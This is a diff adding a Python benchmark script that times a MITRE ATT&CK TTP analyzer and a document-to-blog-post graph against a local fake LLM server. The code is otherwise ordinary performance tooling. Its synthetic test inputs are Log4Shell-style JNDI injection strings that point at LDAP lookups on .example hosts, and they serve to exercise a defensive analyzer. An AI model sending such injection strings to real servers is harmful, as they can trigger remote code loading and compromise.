@@ -0,0 +1,356 @@
+"""
+로컬 OpenAI 호환 대역 서버로 두 그래프(TTPAnalyzer.workflow, techpost_rfc get_graph())의
+오케스트레이션 비용을 GPU 없이 측정하는 벤치마크
+
+    cd mitre_ttp_reasoner
+    python -m benchmarks.bench_graphs --payloads 50 --concurrency 8
+    python -m benchmarks.bench_graphs --graph mitre mitre_bulk --group-size 4
+    python -m benchmarks.bench_graphs --graph mitre mitre_structured --malformed-rate 0.1
+    python -m benchmarks.bench_graphs --graph techpost --topics 15 --parallel-topics --topic-concurrency 8
+    python -m benchmarks.bench_graphs --graph mitre --retry-rate 0.3 --error-rate 0.05 --baseline benchmarks/results/<이전 결과>.json
+
+- 처리량, 노드별 지연(p50/p95/mean), verify 재시도/전송 계층 재시도 수, 최대 RSS 를 측정
+- mitre_structured: 같은 케이스를 스키마 제약 디코딩으로 분석하여 자유 생성(mitre) 대비
+  파싱 실패/재시도 수 차이를 측정 (--malformed-rate 로 자유 생성 응답의 형식 오류율 지정)
+- 결과는 benchmarks/results/ 아래 JSON 으로 저장하여 실행 간 비교 (--baseline 으로 변화율 출력)
+- mitre 쪽은 합성 기법 카탈로그 + 결정적 가짜 임베딩으로 NumPy 인덱스를 만들어 임베딩 모델 로드 없이 실행
+"""
+import os
+import sys
+import json
+import time
+import random
+import asyncio
+import argparse
+import datetime
+import platform
+import resource
+import tempfile
+import subprocess
+from pathlib import Path
+from collections import defaultdict
+from langchain_core.embeddings import DeterministicFakeEmbedding
+from core.analyzer import TTPAnalyzer, MODEL_NAME
+from llm_common.client import get_chat_model
+from core.numpy_index import NumpyVectorStore
+from core.technique_index import TechniqueIndex
+from core.vector_engine import VectorEngine
+from core.fingerprint import VerdictCache
+from core.query_cache import QueryCache
+from core.bulk_analyzer import BulkAnalyzer
+from test_evaluator import percentile
+from benchmarks.fake_server import FakeLLMServer, CannedResponder
+
+RESULTS_DIR = Path(__file__).parent / "results"
+TECHPOST_DIR = Path(__file__).resolve().parents[2] / "techpost_rfc"
+
+WORDS = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india", "juliet",
+         "kilo", "lima", "mike", "november", "oscar", "papa", "quebec", "romeo", "sierra", "tango",
+         "uniform", "victor", "whiskey", "xray", "yankee", "zulu", "orders", "users", "search", "export"]
+
+
+def synthetic_catalog(n, seed=0):
+    """MitreLoader.load_and_refine 과 같은 형태의 합성 기법 목록 (약 1/3 이 서브 기법)"""
+    rng = random.Random(seed)
+    techniques = []
+    for i in range(n):
+        parent = f"T{1000 + i // 3}"
+        tid = parent if i % 3 == 0 else f"{parent}.{i % 3:03d}"
+        techniques.append({
+            "id": tid,
+            "name": f"Technique {tid}",
+            "tactics": [rng.choice(["initial-access", "execution", "persistence", "discovery"])],
+            "is_sub": "." in tid,
+            "deprecated": False,
+            "content": f"Technique Name: Technique {tid}\nID: {tid}\nTactics: initial-access\n"
+                       f"Description: {'adversaries may abuse this behavior. ' * 12}",
+            "detection": "monitor web server logs for anomalies. " * 8
+        })
+    return techniques
+
+
+def synthetic_payloads(n, seed=0):
+    """시그니처 규칙과 템플릿 캐시에 걸리지 않도록 구조가 서로 다른 페이로드 생성"""
+    rng = random.Random(seed)
+    payloads = []
+    for i in range(n):
+        a, b, c = rng.sample(WORDS, 3)
+        payloads.append(f"[Context]\nMethod: GET\nPath: /{a}/{b}\n\n[Payload]\n{c}=${{jndi:ldap://{a}.{b}.example/{c}}}")
+    return payloads
+
+
+def synthetic_document(sections=6):
+    body = []
+    for i in range(1, sections + 1):
+        body.append(f"# Section {i}\n\n" + "The client sends a request message and the server replies. " * 30)
+    return "\n\n".join(body)
+
+
+def peak_rss_mb():
+    # Linux 는 KB, macOS 는 바이트 단위
+    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    return peak / (1024 * 1024) if sys.platform == "darwin" else peak / 1024
+
+
+def summarize(values):
+    return {
+        "count": len(values),
+        "mean_ms": 1000 * sum(values) / len(values) if values else 0.0,
+        "p50_ms": 1000 * percentile(values, 50),
+        "p95_ms": 1000 * percentile(values, 95)
+    }
+
+
+async def timed_run(app, inputs, node_times):
+    """
+    stream_mode="updates" 로 실행하며 이전 업데이트 이후 경과 시간을 해당 노드의 지연으로 기록
+    - 두 그래프 모두 노드가 순차 실행되므로 업데이트 간격이 곧 노드 실행 시간
+    """
+    state = dict(inputs)
+    started = last = time.perf_counter()
+    async for update in app.astream(inputs, stream_mode="updates"):
+        now = time.perf_counter()
+        for node, delta in update.items():
+            node_times[node].append(now - last)
+            state.update(delta or {})
+        last = now
+    return state, time.perf_counter() - started
+
+
+def build_bench_analyzer(args, server, workdir, name):
+    techniques = synthetic_catalog(args.techniques)
+    embeddings = DeterministicFakeEmbedding(size=384)
+    db_dir = os.path.join(workdir, f"db_numpy_{name}")
+    db = NumpyVectorStore.from_documents([VectorEngine.to_document(t) for t in techniques], embeddings, db_dir)
+    return TTPAnalyzer(
+        vector_db=db,
+        # 동일 페이로드가 없고 캐시도 실행마다 새로 만들므로 캐시 효과 없이 LLM 경로 전체를 측정
+        query_cache=QueryCache(MODEL_NAME, "bench", db_path=os.path.join(workdir, f"query_cache_{name}.sqlite3")),
+        verdict_cache=VerdictCache(),
+        technique_index=TechniqueIndex(techniques),
+        structured_output=args.structured_output,
+        adaptive_retrieval=args.adaptive_retrieval,
+        lexical_index=VectorEngine(db_path=db_dir, backend="numpy").build_lexical_index(techniques)
+        if args.hybrid_retrieval else None,
+        llm=get_chat_model(MODEL_NAME, base_url=server.base_url)
+    )
+
+
+def tokens_per_payload(server, cases):
+    stats = server.stats()
+    return (stats["prompt_tokens"] + stats["completion_tokens"]) / cases if cases else 0.0
+
+
+async def bench_mitre(args, server, workdir, name="mitre"):
+    analyzer = build_bench_analyzer(args, server, workdir, name)
+    payloads = synthetic_payloads(args.payloads)
+    node_times = defaultdict(list)
+    latencies = []
+    retries = 0
+    parse_failures = 0
+    tiers = defaultdict(int)
+    semaphore = asyncio.Semaphore(max(1, args.concurrency))
+
+    async def worker(payload):
+        nonlocal retries, parse_failures
+        async with semaphore:
+            state, elapsed = await timed_run(analyzer.workflow, {"payload": payload}, node_times)
+        latencies.append(elapsed)
+        retries += max(0, state.get('iteration', 1) - 1)
+        parse_failures += state.get('parse_failures', 0)
+        tiers[state.get('retrieval_tier', 'none')] += 1
+
+    started = time.perf_counter()
+    await asyncio.gather(*(worker(p) for p in payloads))
+    wall = time.perf_counter() - started
+
+    return {
+        "cases": len(payloads),
+        "wall_s": wall,
+        "throughput_per_s": len(payloads) / wall,
+        "latency": summarize(latencies),
+        "nodes": {node: summarize(times) for node, times in node_times.items()},
+        "verify_retries": retries,
+        "parse_failures": parse_failures,
+        "structured_output": analyzer.structured_output,
+        "retrieval_tiers": dict(tiers),
+        "tokens_per_payload": tokens_per_payload(server, len(payloads)),
+        "analyzer": analyzer.stats()
+    }
+
+
+async def bench_mitre_structured(args, server, workdir):
+    """같은 합성 페이로드를 스키마 제약 디코딩으로 분석 (mitre 결과의 파싱 실패/재시도 수와 비교)"""
+    structured_args = argparse.Namespace(**{**vars(args), "structured_output": True})
+    return await bench_mitre(structured_args, server, workdir, name="mitre_structured")
+
+
+async def bench_mitre_bulk(args, server, workdir):
+    """같은 합성 페이로드를 BulkAnalyzer 로 묶어 분석 (mitre 결과의 tokens_per_payload 와 비교)"""
+    analyzer = build_bench_analyzer(args, server, workdir, "mitre_bulk")
+    bulk = BulkAnalyzer(analyzer, group_size=args.group_size, concurrency=args.concurrency)
+    payloads = synthetic_payloads(args.payloads)
+
+    started = time.perf_counter()
+    await bulk.analyze(payloads)
+    wall = time.perf_counter() - started
+
+    return {
+        "cases": len(payloads),
+        "wall_s": wall,
+        "throughput_per_s": len(payloads) / wall,
+        "nodes": {},
+        "tokens_per_payload": tokens_per_payload(server, len(payloads)),
+        "bulk": bulk.stats(),
+        "analyzer": analyzer.stats()
+    }
+
+
+async def bench_techpost(args, server, workdir):
+    # techpost_rfc 는 별도 프로젝트이며 평면 모듈(import graph, state ...)로 구성되어 있음
+    os.environ["LLM_BASE_URL"] = server.base_url
+    sys.path.insert(0, str(TECHPOST_DIR))
+    from graph import get_graph
+
+    doc_path = os.path.join(workdir, "spec.md")
+    with open(doc_path, "w", encoding="utf-8") as f:
+        f.write(synthetic_document(args.doc_sections))
+
+    app = get_graph(parallel=args.parallel_topics, max_concurrency=args.topic_concurrency)
+    node_times = defaultdict(list)
+    latencies = []
+    posts = 0
+    started = time.perf_counter()
+    for _ in range(args.documents):
+        state, elapsed = await timed_run(app, {
+            "document_metadata": {"file_path": doc_path},
+            "series_toc": [],
+            "current_index": 0,
+            "generated_posts": [],
+            "document_content": ""
+        }, node_times)
+        latencies.append(elapsed)
+        posts += len(state.get("generated_posts", []))
+    wall = time.perf_counter() - started
+
+    return {
+        "documents": args.documents,
+        "posts": posts,
+        "wall_s": wall,
+        "throughput_per_s": args.documents / wall,
+        "latency": summarize(latencies),
+        "nodes": {node: summarize(times) for node, times in node_times.items()}
+    }
+
+
+BENCHES = {"mitre": bench_mitre, "mitre_structured": bench_mitre_structured, "mitre_bulk": bench_mitre_bulk,
+           "techpost": bench_techpost}
+
+
+async def run_graph(name, args, workdir):
+    responder = CannedResponder(retry_rate=args.retry_rate, seed=args.seed, toc_items=args.topics,
+                                malformed_rate=args.malformed_rate)
+    with FakeLLMServer(ttft=args.ttft, prefill_per_token=args.prefill_per_token, per_token=args.per_token,
+                       responder=responder, error_rate=args.error_rate, seed=args.seed) as server:
+        result = await BENCHES[name](args, server, workdir)
+        result["server"] = server.stats()
+    # 주입된 503 은 모두 클라이언트 transport 에서 재시도됨
+    result["transport_retries"] = result["server"]["injected_errors"]
+    result["peak_rss_mb"] = peak_rss_mb()
+    return result
+
+
+def git_commit():
+    try:
+        return subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True,
+                              text=True, check=True).stdout.strip()
+    except (OSError, subprocess.CalledProcessError):
+        return None
+
+
+def compare(results, baseline_path):
+    """이전 결과 대비 처리량과 노드별 p50 변화율 출력"""
+    with open(baseline_path, "r", encoding="utf-8") as f:
+        baseline = json.load(f)["results"]
+
+    def change(new, old):
+        return f"{100 * (new - old) / old:+.1f}%" if old else "n/a"
+
+    for name, result in results.items():
+        if name not in baseline:
+            continue
+        old = baseline[name]
+        print(f"[{name}] throughput {old['throughput_per_s']:.2f} -> {result['throughput_per_s']:.2f}/s "
+              f"({change(result['throughput_per_s'], old['throughput_per_s'])})")
+        for node, stats in result["nodes"].items():
+            if node in old["nodes"]:
+                before = old["nodes"][node]["p50_ms"]
+                print(f"  {node:<20} p50 {before:.1f} -> {stats['p50_ms']:.1f} ms ({change(stats['p50_ms'], before)})")
+
+
+async def main(args):
+    graphs = list(BENCHES) if "all" in args.graph else args.graph
+    results = {}
+    # 실행 순서상 최대 RSS 는 누적값이므로 그래프별 비교가 필요하면 --graph 로 따로 실행
+    with tempfile.TemporaryDirectory() as workdir:
+        for name in graphs:
+            results[name] = await run_graph(name, args, workdir)
+
+    report = {
+        "timestamp": datetime.datetime.now().isoformat(timespec="seconds"),
+        "commit": git_commit(),
+        "python": platform.python_version(),
+        "config": vars(args),
+        "results": results
+    }
+    output = Path(args.output) if args.output else \
+        RESULTS_DIR / f"bench_{datetime.datetime.now().strftime('%Y%m%d_%H%M%S')}.json"
+    output.parent.mkdir(parents=True, exist_ok=True)
+    with open(output, "w", encoding="utf-8") as f:
+        json.dump(report, f, indent=2, ensure_ascii=False)
+
+    print(json.dumps(results, indent=2, ensure_ascii=False))
+    print(f"Saved: {output}")
+    if "mitre" in results and "mitre_bulk" in results:
+        single, bulk = results["mitre"]["tokens_per_payload"], results["mitre_bulk"]["tokens_per_payload"]
+        if single:
+            print(f"Tokens per payload: per-payload graph {single:.1f} -> bulk {bulk:.1f} "
+                  f"({100 * (bulk - single) / single:+.1f}%)")
+    if "mitre" in results and "mitre_structured" in results and not results["mitre"]["structured_output"]:
+        free, constrained = results["mitre"], results["mitre_structured"]
+        print(f"Parse failures: free-form {free['parse_failures']} -> structured {constrained['parse_failures']} | "
+              f"verify retries: {free['verify_retries']} -> {constrained['verify_retries']}")
+    if args.baseline:
+        compare(results, args.baseline)
+
+
+def parse_args():
+    parser = argparse.ArgumentParser(description="End-to-end graph benchmark against a local stand-in LLM server")
+    parser.add_argument("--graph", nargs="+", choices=["all", *BENCHES], default=["all"])
+    parser.add_argument("--payloads", type=int, default=50, help="mitre 분석 케이스 수")
+    parser.add_argument("--concurrency", type=int, default=8, help="mitre 동시 실행 케이스 수")
+    parser.add_argument("--techniques", type=int, default=300, help="합성 기법 카탈로그 크기")
+    parser.add_argument("--group-size", type=int, default=4, help="mitre_bulk 프롬프트당 페이로드 수")
+    parser.add_argument("--documents", type=int, default=2, help="techpost 문서 처리 횟수")
+    parser.add_argument("--topics", type=int, default=3, help="techpost 목차 토픽 수")
+    parser.add_argument("--doc-sections", type=int, default=6, help="techpost 합성 문서의 섹션 수 (문서 길이)")
+    parser.add_argument("--parallel-topics", action="store_true", help="techpost 토픽을 Send 로 병렬 생성")
+    parser.add_argument("--topic-concurrency", type=int, default=4, help="--parallel-topics 동시 토픽 수")
+    parser.add_argument("--structured-output", action="store_true")
+    parser.add_argument("--adaptive-retrieval", action="store_true")
+    parser.add_argument("--hybrid-retrieval", action="store_true")
+    parser.add_argument("--ttft", type=float, default=0.02, help="기본 첫 토큰 지연(초)")
+    parser.add_argument("--prefill-per-token", type=float, default=0.0002, help="캐시 미스 토큰당 prefill 지연(초)")
+    parser.add_argument("--per-token", type=float, default=0.001, help="생성 토큰당 지연(초)")
+    parser.add_argument("--retry-rate", type=float, default=0.0, help="첫 분석 응답을 후보 밖 ID 로 보내 재시도를 유도할 확률")
+    parser.add_argument("--malformed-rate", type=float, default=0.0,
+                        help="스키마 제약이 없는 분석 응답을 파싱 불가 형태로 보낼 확률")
+    parser.add_argument("--error-rate", type=float, default=0.0, help="서버가 503 으로 거절할 확률")
+    parser.add_argument("--seed", type=int, default=0)
+    parser.add_argument("--output", help="결과 JSON 경로 (기본: benchmarks/results/bench_<시각>.json)")
+    parser.add_argument("--baseline", help="비교할 이전 결과 JSON")
+    return parser.parse_args()
+
+
+if __name__ == "__main__":
+    asyncio.run(main(parse_args()))